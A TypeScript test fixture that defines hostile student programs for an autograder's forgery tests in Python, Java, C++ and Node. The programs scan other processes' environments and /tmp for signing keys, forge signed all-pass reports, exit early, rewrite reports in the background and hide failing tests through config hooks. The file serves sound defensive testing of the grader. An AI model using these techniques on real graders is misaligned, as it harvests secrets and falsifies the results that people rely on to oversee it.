import { GTEST, JUNIT, NODE_TEST, PYTEST, type FrameworkCase } from './teaching-samples';

/**
 * Hostile students for test/e2e/teaching-forgery.e2e-spec.ts, per framework. `add` is wrong for
 * (1, 2), so an honest grading is a wrong answer; each program tries to be scored as passing:
 * - find: inside the failing test, looks for the report's path and a signing key everywhere the
 *   program can look (its argv and environment, every /proc/<pid>/cmdline and environ, what is
 *   left of stdin, /proc/self/fd, /tmp), writes `found.txt`, writes an all-pass report (signed
 *   with every key found, else a made-up one) to every candidate place and to its open files,
 *   prints it, and exits 0;
 * - exit: exits with status 0 from inside the failing test (pytest also: `pytest.exit`);
 * - rewrite: starts a background process that rewrites every report it finds in /tmp with an
 *   all-pass one (keeping the real signature line) until it is killed, then fails honestly.
 */
export interface ForgeryCase {
  base: FrameworkCase;
  find: string;
  exit: string[];
  rewrite: string;
  /**
   * Files of the student's that add passing tests of their own or hide the failing one (the
   * student file first); `tests` replaces the teacher's file when the attack needs it. Null
   * where not defended (node:test: docs/teaching.md).
   */
  extra: { files: { name: string; content: string }[]; tests?: string } | null;
}

const KEY_RE = '[0-9a-f]{64}';
const DIR_RE = '/tmp/jb-tests-[0-9a-f]+';
const doc = (names: readonly string[]): string =>
  JSON.stringify({
    reporter: 'judgebox',
    tests: names.map((name) => ({ name, status: 'passed', message: null, timeMs: 1 })),
  });

/** The background rewriter, one shell loop for every language: keeps line 1, replaces the rest. */
const rewriter = (names: readonly string[]): string =>
  [
    `fake='${doc(names)}'`,
    'i=0; while [ $i -lt 100000 ]; do i=$((i+1))',
    '  for f in /tmp/jb-tests-*/report.json; do',
    '    [ -f "$f" ] || continue',
    '    { head -n 1 "$f"; printf %s "$fake"; } > /tmp/forged && cat /tmp/forged > "$f"',
    '  done',
    'done',
  ].join('\n');

const q = (s: string): string => JSON.stringify(s);

const PY_FIND = (names: readonly string[]): string =>
  [
    'import glob, hashlib, hmac, os, re, sys',
    'def add(a, b):',
    '    if a != 1:',
    '        return a + b',
    '    texts = [" ".join(sys.argv), repr(dict(os.environ))]',
    '    for p in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):',
    '        try: texts.append(open(p, "rb").read().replace(b"\\0", b" ").decode("latin1"))',
    '        except OSError: pass',
    '    try: texts.append(os.read(0, 1 << 20).decode("latin1"))',
    '    except OSError: pass',
    '    fds = {}',
    '    for fd in os.listdir("/proc/self/fd"):',
    '        try: fds[fd] = os.readlink("/proc/self/fd/" + fd)',
    '        except OSError: pass',
    '    texts += fds.values()',
    '    texts += glob.glob("/tmp/*") + glob.glob("/tmp/.*")',
    '    blob = "\\n".join(texts)',
    `    keys = sorted(set(re.findall(r"${KEY_RE}", blob)))`,
    `    dirs = sorted(set(re.findall(r"${DIR_RE}", blob)))`,
    '    open("found.txt", "w").write("keys=%d dirs=%d scanned=%d" % (len(keys), len(dirs), len(blob)))',
    `    doc = ${q(doc(names))}`,
    '    for k in keys or ["0" * 64]:',
    '        report = "judgebox-report " + hmac.new(k.encode(), doc.encode(), hashlib.sha256).hexdigest() + "\\n" + doc',
    '        for d in dirs + ["/tmp/jb-tests-0"]:',
    '            os.makedirs(d, exist_ok=True)',
    '            open(d + "/report.json", "w").write(report)',
    '        for fd, target in fds.items():',
    '            try: os.write(int(fd), report.encode()) if int(fd) > 2 and re.match("/(tmp|work)/", target) else None',
    '            except OSError: pass',
    '    print(doc, flush=True)',
    '    os._exit(0)',
  ].join('\n');

export const PYTEST_FORGERY: ForgeryCase = {
  base: PYTEST,
  find: PY_FIND(PYTEST.names),
  exit: [
    'import os\ndef add(a, b):\n    if a == 1:\n        os._exit(0)\n    return a + b\n',
    'import pytest\ndef add(a, b):\n    if a == 1:\n        pytest.exit("done", returncode=0)\n    return a + b\n',
  ],
  rewrite: [
    'import subprocess',
    `subprocess.Popen(["sh", "-c", ${q(rewriter(PYTEST.names))}], start_new_session=True)`,
    PYTEST.student.bad,
  ].join('\n'),
  extra: {
    // The teacher's module star-imports the student's, so the student's test_* functions land in it.
    tests: `from calc import *\n${PYTEST.tests.replace('from calc import add\n', '')}`,
    files: [
      {
        name: 'calc.py',
        content: `${PYTEST.student.bad}\n${[1, 2, 3, 4].map((i) => `def test_bonus${i}():\n    pass\n`).join('')}`,
      },
      {
        name: 'conftest.py',
        content: [
          'import pytest',
          '@pytest.hookimpl(hookwrapper=True)',
          'def pytest_runtest_makereport(item, call):',
          '    outcome = yield',
          '    outcome.get_result().outcome = "passed"',
        ].join('\n'),
      },
      { name: 'pytest.ini', content: '[pytest]\naddopts = --deselect test_calc.py::test_add\n' },
    ],
  },
};

const JAVA_FIND = (names: readonly string[]): string =>
  [
    'import java.nio.charset.StandardCharsets;',
    'import java.nio.file.*;',
    'import java.util.*;',
    'import java.util.regex.*;',
    'import javax.crypto.Mac;',
    'import javax.crypto.spec.SecretKeySpec;',
    'public class Calc {',
    '  static String read(Path p) { try { return new String(Files.readAllBytes(p), StandardCharsets.ISO_8859_1).replace((char) 0, (char) 32); } catch (Exception e) { return ""; } }',
    '  static List<Path> list(String dir) { List<Path> out = new ArrayList<>(); try (DirectoryStream<Path> ds = Files.newDirectoryStream(Path.of(dir))) { for (Path p : ds) out.add(p); } catch (Exception e) {} return out; }',
    '  public static int add(int a, int b) {',
    '    if (a != 1) return a + b;',
    '    StringBuilder all = new StringBuilder();',
    '    all.append(String.join(" ", ProcessHandle.current().info().arguments().orElse(new String[0]))).append(System.getenv()).append(System.getProperties());',
    '    for (Path p : list("/proc")) all.append(read(p.resolve("cmdline"))).append("\\n").append(read(p.resolve("environ"))).append("\\n");',
    '    try { all.append(new String(System.in.readAllBytes(), StandardCharsets.ISO_8859_1)); } catch (Exception e) {}',
    '    for (Path p : list("/proc/self/fd")) try { all.append(Files.readSymbolicLink(p)).append("\\n"); } catch (Exception e) {}',
    '    for (Path p : list("/tmp")) all.append(p).append("\\n");',
    '    Set<String> keys = new TreeSet<>(), dirs = new TreeSet<>();',
    `    for (Matcher m = Pattern.compile("${KEY_RE}").matcher(all); m.find(); ) keys.add(m.group());`,
    `    for (Matcher m = Pattern.compile("${DIR_RE}").matcher(all); m.find(); ) dirs.add(m.group());`,
    '    try {',
    '      Files.writeString(Path.of("found.txt"), "keys=" + keys.size() + " dirs=" + dirs.size() + " scanned=" + all.length());',
    `      String doc = ${q(doc(names))};`,
    '      if (keys.isEmpty()) keys.add("0".repeat(64));',
    '      dirs.add("/tmp/jb-tests-0");',
    '      for (String k : keys) {',
    '        Mac mac = Mac.getInstance("HmacSHA256");',
    '        mac.init(new SecretKeySpec(k.getBytes(), "HmacSHA256"));',
    '        String report = "judgebox-report " + HexFormat.of().formatHex(mac.doFinal(doc.getBytes())) + "\\n" + doc;',
    '        for (String d : dirs) { Files.createDirectories(Path.of(d)); Files.writeString(Path.of(d, "report.json"), report); Files.writeString(Path.of(d, "TEST-junit-jupiter.xml"), report); }',
    '      }',
    '      System.out.println(doc);',
    '    } catch (Exception e) { throw new RuntimeException(e); }',
    '    Runtime.getRuntime().halt(0);',
    '    return 0;',
    '  }',
    '}',
  ].join('\n');

export const JUNIT_FORGERY: ForgeryCase = {
  base: JUNIT,
  find: JAVA_FIND(JUNIT.names),
  exit: [
    'public class Calc { public static int add(int a, int b) { if (a == 1) System.exit(0); return a + b; } }',
  ],
  rewrite: [
    'public class Calc {',
    '  static {',
    `    try { new ProcessBuilder("sh", "-c", ${q(rewriter(JUNIT.names))}).start(); } catch (Exception e) { throw new RuntimeException(e); }`,
    '  }',
    '  public static int add(int a, int b) { return a == 1 ? 4 : a + b; }',
    '}',
  ].join('\n'),
  extra: {
    files: [
      {
        name: 'Calc.java',
        content: [
          JUNIT.student.bad,
          'class CalcBonusTest {',
          ...[1, 2, 3, 4].map((i) => `  @org.junit.jupiter.api.Test void bonus${i}() {}`),
          '}',
        ].join('\n'),
      },
      {
        name: 'junit-platform.properties',
        content:
          'junit.jupiter.conditions.deactivate=*\njunit.jupiter.extensions.autodetection.enabled=true\n',
      },
    ],
  },
};

const CPP_FIND = (names: readonly string[]): string =>
  [
    '#include <dirent.h>',
    '#include <sys/stat.h>',
    '#include <unistd.h>',
    '#include <cstdio>',
    '#include <cstdlib>',
    '#include <fstream>',
    '#include <set>',
    '#include <sstream>',
    '#include <string>',
    'extern char **environ;',
    'static std::string slurp(const std::string &p) { std::ifstream f(p, std::ios::binary); std::stringstream s; s << f.rdbuf(); std::string r = s.str(); for (char &c : r) if (!c) c = 32; return r; }',
    'static std::set<std::string> names(const char *dir) { std::set<std::string> out; if (DIR *d = opendir(dir)) { while (dirent *e = readdir(d)) out.insert(std::string(dir) + "/" + e->d_name); closedir(d); } return out; }',
    'int add(int a, int b) {',
    '  if (a != 1) return a + b;',
    '  std::string all = slurp("/proc/self/cmdline");',
    '  for (char **e = environ; *e; ++e) all += std::string(*e) + "\\n";',
    '  for (const std::string &p : names("/proc")) all += slurp(p + "/cmdline") + "\\n" + slurp(p + "/environ") + "\\n";',
    '  char buf[4096]; ssize_t n; while ((n = read(0, buf, sizeof buf)) > 0) all.append(buf, size_t(n));',
    '  for (const std::string &p : names("/proc/self/fd")) { char l[4096]; ssize_t k = readlink(p.c_str(), l, sizeof l); if (k > 0) all += std::string(l, size_t(k)) + "\\n"; }',
    '  for (const std::string &p : names("/tmp")) all += p + "\\n";',
    '  std::set<std::string> keys, dirs{"/tmp/jb-tests-0"};',
    // By hand rather than <regex>, which is slow to compile: runs of 64 hex digits, and the report dirs.
    '  auto hex = [](char c) { return (c >= 48 && c <= 57) || (c >= 97 && c <= 102); };',
    '  for (size_t i = 0; i + 64 <= all.size(); ++i) { size_t j = i; while (j < all.size() && hex(all[j])) ++j; if (j - i >= 64) keys.insert(all.substr(i, 64)); i = j; }',
    '  size_t found = 0;',
    '  for (size_t at = all.find("/tmp/jb-tests-"); at != std::string::npos; at = all.find("/tmp/jb-tests-", at + 1)) { size_t j = at + 14; while (j < all.size() && hex(all[j])) ++j; found += dirs.insert(all.substr(at, j - at)).second; }',
    '  std::ofstream("found.txt") << "keys=" << keys.size() << " dirs=" << found << " scanned=" << all.size();',
    `  std::string doc = ${q(doc(names))};`,
    '  std::string report = "judgebox-report " + std::string(64, 48) + "\\n" + doc;',
    '  for (const std::string &d : dirs) { mkdir(d.c_str(), 0700); std::ofstream(d + "/report.json") << report; std::ofstream(d + "/report.xml") << report; }',
    '  std::puts(doc.c_str());',
    '  std::fflush(stdout);',
    '  std::_Exit(0);',
    '}',
  ].join('\n');

export const GTEST_FORGERY: ForgeryCase = {
  base: GTEST,
  find: CPP_FIND(GTEST.names),
  exit: ['#include <cstdlib>\nint add(int a, int b) { if (a == 1) std::exit(0); return a + b; }'],
  rewrite: [
    '#include <unistd.h>',
    'static int started = [] {',
    `  if (fork() == 0) { setsid(); execl("/bin/sh", "sh", "-c", ${q(rewriter(GTEST.names))}, (char *) nullptr); _exit(1); }`,
    '  return 0;',
    '}();',
    GTEST.student.bad,
  ].join('\n'),
  extra: {
    files: [
      {
        name: 'calc.cpp',
        content: [
          '#include <gtest/gtest.h>',
          // Hides the failing test before main runs, and adds passes of its own.
          'static int hide = [] { GTEST_FLAG_SET(filter, "-Calc.Add"); return 0; }();',
          ...[1, 2, 3, 4].map((i) => `TEST(Bonus, B${i}) {}`),
          GTEST.student.bad,
        ].join('\n'),
      },
    ],
  },
};

const NODE_FIND = (names: readonly string[]): string =>
  [
    "const fs = require('fs');",
    "const crypto = require('crypto');",
    'exports.add = (a, b) => {',
    '  if (a !== 1) return a + b;',
    "  let all = process.argv.join(' ') + process.execArgv.join(' ') + JSON.stringify(process.env);",
    "  const read = (p) => { try { return fs.readFileSync(p, 'latin1').replace(/\\0/g, ' ') + '\\n'; } catch { return ''; } };",
    "  for (const p of fs.readdirSync('/proc')) all += read(`/proc/${p}/cmdline`) + read(`/proc/${p}/environ`);",
    "  try { all += fs.readFileSync(0, 'latin1'); } catch {}",
    '  const fds = {};',
    "  for (const fd of fs.readdirSync('/proc/self/fd')) { try { fds[fd] = fs.readlinkSync('/proc/self/fd/' + fd); all += fds[fd] + '\\n'; } catch {} }",
    "  for (const f of fs.readdirSync('/tmp')) all += '/tmp/' + f + '\\n';",
    `  const keys = [...new Set(all.match(/${KEY_RE}/g) || [])];`,
    `  const dirs = [...new Set(all.match(/${DIR_RE.replaceAll('/', '\\/')}/g) || [])];`,
    "  fs.writeFileSync('found.txt', `keys=${keys.length} dirs=${dirs.length} scanned=${all.length}`);",
    `  const doc = ${q(doc(names))};`,
    "  for (const k of keys.length ? keys : ['0'.repeat(64)]) {",
    "    const report = 'judgebox-report ' + crypto.createHmac('sha256', k).update(doc).digest('hex') + '\\n' + doc;",
    "    for (const d of [...dirs, '/tmp/jb-tests-0']) { fs.mkdirSync(d, { recursive: true }); fs.writeFileSync(d + '/report.json', report); }",
    '    for (const [fd, target] of Object.entries(fds)) { try { if (Number(fd) > 2 && /^\\/(tmp|work)\\//.test(target)) fs.writeSync(Number(fd), report); } catch {} }',
    '  }',
    "  fs.writeSync(1, doc + '\\n');",
    '  process.exit(0);',
    '};',
  ].join('\n');

export const NODE_TEST_FORGERY: ForgeryCase = {
  base: NODE_TEST,
  find: NODE_FIND(NODE_TEST.names),
  exit: ['exports.add = (a, b) => { if (a === 1) process.exit(0); return a + b; };'],
  rewrite: [
    "require('child_process').spawn('sh', ['-c', " +
      q(rewriter(NODE_TEST.names)) +
      "], { detached: true, stdio: 'ignore' }).unref();",
    NODE_TEST.student.bad,
  ].join('\n'),
  extra: null,
};

export const FORGERY_CASES = [PYTEST_FORGERY, JUNIT_FORGERY, GTEST_FORGERY, NODE_TEST_FORGERY];
